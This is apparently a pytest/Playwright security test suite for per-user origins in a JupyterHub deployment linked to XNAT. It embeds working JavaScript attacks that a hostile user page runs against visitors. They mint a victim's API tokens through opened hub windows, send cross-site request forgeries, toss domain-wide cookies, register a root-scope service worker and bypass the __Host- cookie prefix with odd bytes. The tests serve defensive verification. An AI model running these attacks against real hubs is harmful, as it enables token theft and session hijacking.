"""An origin for each person, in a browser: XNAT's link, a change on a running site, and a hostile page.

haproxy with the edge's file, JupyterHub's own proxy, and a hub with the real configuration; see origins_bed.py.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import suppress
from typing import Any
from urllib.parse import urlencode

import pytest
import requests
import urllib3
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from xnat_hub.origins import label

from tests.edge_bed import HAPROXY
from tests.unit.origins_bed import BASE, CHROMIUM, DOMAIN, PATIENCE, PROGRAM, Front, front, until
from tests.unit.origins_server import MALLORY, SET_COOKIE

pytestmark = [
    pytest.mark.skipif(not HAPROXY, reason="no haproxy"),
    pytest.mark.skipif(not CHROMIUM.exists(), reason="no Chromium"),
    pytest.mark.skipif(not PROGRAM.exists(), reason="no Node.js; the scenario `offline` has such a site"),
    pytest.mark.filterwarnings(f"ignore::{urllib3.exceptions.InsecureRequestWarning.__module__}."
                               f"{urllib3.exceptions.InsecureRequestWarning.__name__}"),
]  # fmt: skip
SERVER = "20260115T093012345Z"
NOTE = "minted by a page"
SIGHTED = {"name", "ready", "pending", "url", "progress_url", "user_options", "started", "last_activity"}  # by XNAT
# What a page can try against the person who opens it. Each attack returns what it has got, or throws.
ATTACKS = """
async ([hub, base, victim, note, theirs]) => {
  const seen = [];
  addEventListener("message", (event) => seen.push(`message ${JSON.stringify(event.data)}`));
  const loaded = async (view, words) => {
    for (let tries = 0; tries < 600; tries += 1) {  // a page of another origin throws at once
      await new Promise((resolve) => setTimeout(resolve, 100));
      if (view.document.readyState === "complete" && view.location.href !== "about:blank" && words(view)) return view;
    }
    throw new Error("not loaded");
  };
  const mint = (fetcher, xsrf) => fetcher(`${hub}${base}hub/api/users/${victim}/tokens`, {
    method: "POST", credentials: "include", body: JSON.stringify({ note }),
    headers: { "Content-Type": "application/json", "X-XSRFToken": xsrf },
  });
  const attacks = {
    window: async () => {
      const view = window.open(`${hub}${base}hub/token`);
      try {
        await loaded(view, (view) => view.jhdata);
        const answer = await mint(view.fetch.bind(view), view.jhdata.xsrf_token);
        return answer.ok ? (await answer.json()).token : "";
      } finally {
        view.close();
      }
    },
    opener: async () => {
      const view = window.open(`${hub}${base}hub/home`);
      const got = await loaded(view, () => true).then((view) => view.document.cookie, () => "");
      view.postMessage("hello", "*");  // an answer would come during the next attacks
      return got;
    },
    fetch: async () => (await (await fetch(`${hub}${base}hub/token`, { credentials: "include" })).text()),
    api: async () => (await (await fetch(`${hub}${base}hub/api/user`, { credentials: "include" })).json()).name,
    post: async () => (await (await mint(fetch, "x")).json()).token,
    blind: async () => {
      await fetch(`${hub}${base}hub/api/users/${victim}/tokens`, {
        method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ note }),
      });
      return "";
    },
    own: async () => {  // the hub's pages on this very origin
      const view = window.open(`${base}hub/token`);
      try {
        await loaded(view, (view) => view.jhdata);
        return view.jhdata.xsrf_token;
      } finally {
        view.close();
      }
    },
    server: async () => {
      const view = window.open(theirs);
      try {
        await loaded(view, (view) => view.document.body.innerText);
        const [, xsrf] = /_xsrf=([^;]+)/.exec(view.document.cookie);
        await view.fetch(theirs, { method: "POST", headers: { "X-XSRFToken": xsrf } });
        return view.document.body.innerText;
      } finally {
        view.close();
      }
    },
    read: async () => (await (await fetch(theirs, { credentials: "include" })).text()),
    change: async () => {
      await fetch(theirs, { method: "POST", mode: "no-cors", credentials: "include", body: "x" });
      return "";
    },
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(`${theirs.replace("https:", "wss:")}channel`);
      socket.onmessage = (event) => resolve(event.data);
      socket.onerror = () => reject(new Error("refused"));
    }),
    frame: async () => {
      const frame = document.createElement("iframe");
      frame.src = theirs;
      const shown = new Promise((resolve) => { frame.onload = resolve; });
      document.body.append(frame);
      await shown;
      return frame.contentDocument ? frame.contentDocument.body.innerText : "";
    },
  };
  const got = {};
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      got[name] = await attack();
    } catch (error) {
      got[name] = "";
    }
  }
  return { got: Object.fromEntries(Object.entries(got).filter(([, value]) => value)), seen };
}
"""
REGISTER = """
async (script) => {
  await navigator.serviceWorker.register(script, { scope: "/" });
  await navigator.serviceWorker.ready;
}
"""
# Cookies for the whole domain, in the names of the hub's, that would make the visitor somebody else.
TOSS = """
([domain, base, cookies]) => {
  for (const cookie of cookies) {
    for (const path of ["/", base, `${base}hub/`, `${base}hub/api/`]) {
      document.cookie = `${cookie}; domain=${domain}; path=${path}; secure`;
    }
  }
}
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Front]:
    """The site's front."""
    with front(tmp_path_factory.mktemp("front")) as made:
        yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Debian's Chromium, for which all names of the domain lead here."""
    expect.set_options(timeout=PATIENCE * 1000)
    with sync_playwright() as playwright:
        options = ["--no-sandbox", "--no-proxy-server", "--disable-background-networking", "--no-first-run"]
        options.append("--ignore-certificate-errors")  # also of service workers
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[*options, f"--host-resolver-rules=MAP *.{DOMAIN} 127.0.0.1, MAP {DOMAIN} 127.0.0.1"],
        )
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A browser without cookies."""
    context = browser.new_context(ignore_https_errors=True)
    context.set_default_timeout(PATIENCE * 1000)
    yield context
    context.close()


def log_in(page: Page, site: Front, user: str) -> None:
    """Log in at the hub."""
    page.goto(f"{site.hub}{BASE}hub/login")
    page.get_by_label("User name").fill(user)
    page.get_by_label("Password").fill("any")
    page.keyboard.press("Enter")
    expect(page).to_have_url(f"{site.hub}{BASE}hub/home")


def link(site: Front, server: dict[str, Any], user: str) -> str:
    """Return XNAT's link: the hub's URL, the server's path, and a token (docs/xnat-contract.md, 2.7)."""
    return f"{site.hub}{server['url']}lab/tree/a%20b?token={site.token(user)}"


def attack(page: Page, site: Front, victim: str) -> tuple[dict[str, str], list[str]]:
    """Open Mallory's page and let it try everything against the visitor. Returns what it got, and messages."""
    mallory, theirs = (f"{site.origin(label(user))}{BASE}user/{user}/{SERVER}/" for user in (MALLORY, victim))
    page.goto(f"{mallory}data.html")
    expect(page.locator("h1")).to_have_text("Free data")
    result = page.evaluate(ATTACKS, [site.hub, BASE, victim, NOTE, theirs])
    return result["got"], result["seen"]


def test_without_the_option_a_page_of_somebodys_server_mints_its_visitors_token(
    site: Front, context: BrowserContext
) -> None:
    site.deploy(person_origins=False)
    site.launch(MALLORY, SERVER)
    server = site.launch("jdoe", SERVER)
    page = context.new_page()
    log_in(page, site, "jdoe")
    page.goto(link(site, server, "jdoe"))
    expect(page.locator("#who")).to_have_text("jdoe")
    got, _ = attack(page, site, "jdoe")
    assert {"window", "opener", "own", "server", "socket", "frame"} <= got.keys()
    assert NOTE in site.notes("jdoe")
    assert (site.folder / "done-on-jdoe").exists()
    user = {"Authorization": f"token {got['window']}"}
    answer = requests.get(f"http://127.0.0.1:{site.ports['proxy']}{BASE}hub/api/user", headers=user, timeout=PATIENCE)
    assert answer.json()["name"] == "jdoe"


def test_a_service_worker_from_the_time_before_the_option_loses_the_hub(site: Front, context: BrowserContext) -> None:
    site.deploy(person_origins=False)
    site.launch(MALLORY, SERVER)
    page = context.new_page()
    folder = f"{site.hub}{BASE}user/{MALLORY}/{SERVER}/"
    page.goto(f"{folder}data.html")
    page.evaluate(REGISTER, f"{folder}worker.js")
    page.goto(f"{site.hub}{BASE}hub/login")
    expect(page.locator("h1")).to_have_text("Your password, please")
    site.deploy(person_origins=True)
    page.goto(f"{site.hub}{BASE}hub/login")
    developer = context.new_cdp_session(page)
    developer.send("ServiceWorker.enable")
    developer.send("ServiceWorker.stopAllWorkers")  # else the browser waits half a minute before it looks for another
    expect(page.get_by_label("Password")).to_be_visible()  # the page is loaded again once the worker has ended
    page.goto(f"{site.hub}{BASE}hub/login")
    expect(page.get_by_label("Password")).to_be_visible()


def test_what_xnat_reads_is_the_same_with_and_without_the_option(site: Front) -> None:
    told: list[str] = []
    for person_origins in (False, True):
        site.deploy(person_origins)
        server = site.launch("reader", SERVER)
        listed = {user["name"]: user for user in site.ask("GET", "users").json()}["reader"]["servers"][SERVER]
        assert {name: listed[name] for name in SIGHTED} == {name: server[name] for name in SIGHTED}
        assert server["full_url"] == f"{site.origin('reader')}{server['url']}"
        told.append(json.dumps({name: server[name] for name in sorted(SIGHTED - {"started", "last_activity"})}))
        assert site.ask("DELETE", f"users/reader/servers/{SERVER}", {"remove": True}).status_code in (202, 204)
    assert told[0] == told[1]
    assert json.loads(told[0])["url"] == f"{BASE}user/reader/{SERVER}/"


def test_with_the_option_it_gets_nothing(site: Front, context: BrowserContext) -> None:
    site.deploy(person_origins=True)
    site.launch(MALLORY, SERVER)
    victim = "rjones"
    server = site.launch(victim, SERVER)
    page = context.new_page()
    log_in(page, site, victim)
    page.goto(link(site, server, victim))
    expect(page.locator("#who")).to_have_text(victim)
    (site.folder / "cookies").unlink(missing_ok=True)

    got, messages = attack(page, site, victim)
    assert got == {}
    assert messages == []
    assert NOTE not in site.notes(victim)
    assert not (site.folder / f"done-on-{victim}").exists()
    # Her program sees the identifier of the visitor's session, which opens nothing; JupyterHub shares it on purpose.
    sent = {part.partition("=")[0].strip() for part in re.split("[;\n]", (site.folder / "cookies").read_text())}
    assert sent - {""} <= {"jupyterhub-session-id"}

    # Mallory's own cookies of the hub, for the whole domain, do not make the visitor Mallory.
    theft = context.browser.new_context(ignore_https_errors=True) if context.browser else context
    log_in(theft.new_page(), site, MALLORY)
    mine = {cookie["name"]: cookie["value"] for cookie in theft.cookies(f"{site.hub}{BASE}hub/home")}
    theft.close()
    assert "__Host-jupyterhub-hub-login" in mine
    mine["jupyterhub-hub-login"] = mine["__Host-jupyterhub-hub-login"]
    page.goto(f"{site.origin(MALLORY)}{BASE}user/{MALLORY}/{SERVER}/data.html")
    page.evaluate(TOSS, [DOMAIN, BASE, [f"{name}={value}" for name, value in mine.items()]])
    tossed = {cookie["name"] for cookie in context.cookies() if cookie["domain"] == f".{DOMAIN}"}
    assert tossed == {"_xsrf", "jupyterhub-hub-login", "jupyterhub-session-id"}
    page.goto(f"{site.hub}{BASE}hub/home")
    expect(page.get_by_text(f"Open {SERVER}")).to_be_visible()
    assert f"{label(victim)}.{DOMAIN}" in str(page.get_by_text(f"Open {SERVER}").get_attribute("href"))
    # Nor does a form with her name and password.
    page.goto(f"{site.origin(MALLORY)}{BASE}user/{MALLORY}/{SERVER}/data.html")
    with page.expect_navigation():
        page.evaluate(
            FORM, [f"{site.hub}{BASE}hub/login", {"username": MALLORY, "password": "any", "_xsrf": mine["_xsrf"]}]
        )
    assert "no requests from pages of other origins" in page.content()
    for cookie in ("jupyterhub-session-id", "_xsrf"):  # which Mallory's have shadowed
        context.clear_cookies(name=cookie, domain=f".{DOMAIN}")
    page.goto(f"{site.origin(label(victim))}{server['url']}")
    expect(page.locator("#who")).to_have_text(victim)


@pytest.mark.parametrize("before", [b"\xa0", b"\x85"], ids=["no-break-space", "next-line"])
def test_a_cookie_that_only_the_hub_would_take_for_its_own_logs_nobody_in(
    site: Front, context: BrowserContext, before: bytes
) -> None:
    # For browsers these bytes are part of the name, so they do not enforce the prefix; Python strips them as spaces.
    site.deploy(person_origins=True)
    site.launch(MALLORY, SERVER)
    page = context.new_page()
    log_in(page, site, MALLORY)
    (mine,) = (cookie["value"] for cookie in context.cookies() if cookie["name"] == "__Host-jupyterhub-hub-login")
    context.clear_cookies()
    log_in(page, site, "victor")
    cookie = before + f"__Host-jupyterhub-hub-login={mine}; Domain={DOMAIN}; Path=/; Secure".encode()
    page.goto(f"{site.origin(MALLORY)}{BASE}user/{MALLORY}/{SERVER}/data.html?{urlencode({SET_COOKIE: cookie})}")
    assert mine in {cookie["value"] for cookie in context.cookies() if cookie["domain"] == f".{DOMAIN}"}
    page.goto(f"{site.hub}{BASE}hub/home")
    expect(page.locator("body")).to_contain_text("victor")


FORM = """
([action, fields]) => {
  const form = document.createElement("form");
  Object.assign(form, { action, method: "post" });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}
"""


ASK = """
([hub, base, token, paths]) => Promise.all(paths.map(async (path) => {
  const headers = path === "message" ? {} : { Authorization: `token ${token}` };
  const answer = await fetch(`${hub}${base}hub/${path}`, { credentials: "omit", headers });
  await answer.json();
  return answer.status;
}))
"""


def test_xnats_link_opens_the_server_at_its_persons_origin(site: Front, context: BrowserContext) -> None:
    site.deploy(person_origins=True)
    page = context.new_page()
    for user in ("JDoe", "jdoe"):
        server = site.launch(user, "fresh")
        context.clear_cookies()
        page.goto(link(site, server, user))
        assert page.url.startswith(f"https://{label(user)}.{DOMAIN}:{site.ports['edge']}{server['url']}lab/tree/a%20b")
        expect(page.locator("#who")).to_have_text(user)
        names = {cookie["name"] for cookie in context.cookies() if cookie["domain"] == f"{label(user)}.{DOMAIN}"}
        assert f"__Host-jupyterhub-user-{user}-fresh" in names
        # What JupyterLab asks the hub from there, without cookies (files/singleuser/labextension).
        paths = ("message", f"api/users/{user}/servers/fresh/end")
        assert page.evaluate(ASK, [site.hub, BASE, site.token(user), paths]) == [200, 200]
    # One who is logged in at the hub needs no token, and leaves by the same door.
    context.clear_cookies()
    log_in(page, site, "jdoe")
    page.get_by_text("Open fresh").click()
    expect(page.locator("#who")).to_have_text("jdoe")
    assert page.url.startswith(f"https://jdoe.{DOMAIN}:{site.ports['edge']}{BASE}user/jdoe/fresh/")
    # Of a server that has ended JupyterHub tells, at its own host.
    site.ask("DELETE", "users/jdoe/servers/fresh", {"remove": True})
    ended = page.goto(f"{site.hub}{BASE}user/jdoe/fresh/lab")
    assert ended is not None
    assert ended.status == 424
    assert page.url.startswith(f"{site.hub}{BASE}hub/user/jdoe/fresh/lab")
    page.goto(f"{site.origin('jdoe')}{BASE}hub/home")
    expect(page).to_have_url(f"{site.hub}{BASE}hub/home")
    # Without a log-in the hub asks for that first, and keeps the link for later.
    context.clear_cookies()
    page.goto(link(site, server, "jdoe"))
    expect(page.get_by_label("Password")).to_be_visible()
    logs = "".join((site.folder / f"{name}.log").read_text() for name in ("edge", "proxy", "hub"))
    assert "token=[secret]" in logs
    assert not re.search(r"token(=|%3D)(?!\[secret\])", logs)


def test_servers_come_back_when_the_proxy_restarts_alone(site: Front) -> None:
    site.deploy(person_origins=True)
    server = site.launch("jdoe", SERVER)
    address, headers = f"http://127.0.0.1:{site.ports['proxy']}{server['url']}", {"Host": f"jdoe.{DOMAIN}"}

    def served() -> bool:
        with suppress(requests.ConnectionError):
            answer = requests.get(address, headers=headers, timeout=PATIENCE, allow_redirects=False)
            return f"{BASE}hub/api/oauth2/authorize" in answer.headers.get("Location", "")  # of the server, not the hub
        return False

    assert served()
    site.restart_proxy()
    until("the reconciler notices", served)


def test_servers_outlive_a_change_of_the_option_and_open_again(site: Front, context: BrowserContext) -> None:
    page = context.new_page()
    servers: dict[str, Any] = {}
    processes: dict[str, str] = {}

    def opens(name: str, address: str) -> None:
        page.goto(address)
        expect(page.locator("#who")).to_have_text("jsmith")
        assert page.url.startswith(f"{site.origin('jsmith')}{servers[name]['url']}")
        assert processes.setdefault(name, page.locator("#pid").inner_text()) == page.locator("#pid").inner_text()

    for name, person_origins in (("before", True), ("after", False)):
        site.deploy(person_origins)
        servers[name] = site.launch("jsmith", name)
        opens(name, link(site, servers[name], "jsmith"))
        site.deploy(not person_origins)
        context.clear_cookies()
        opens(name, link(site, servers[name], "jsmith"))
    # With the option, the hub's log-in also leads to a server that knows nothing of its new origin.
    context.clear_cookies()
    log_in(page, site, "jsmith")
    opens("after", f"{site.hub}{servers['after']['url']}")
    assert "token=" not in page.url
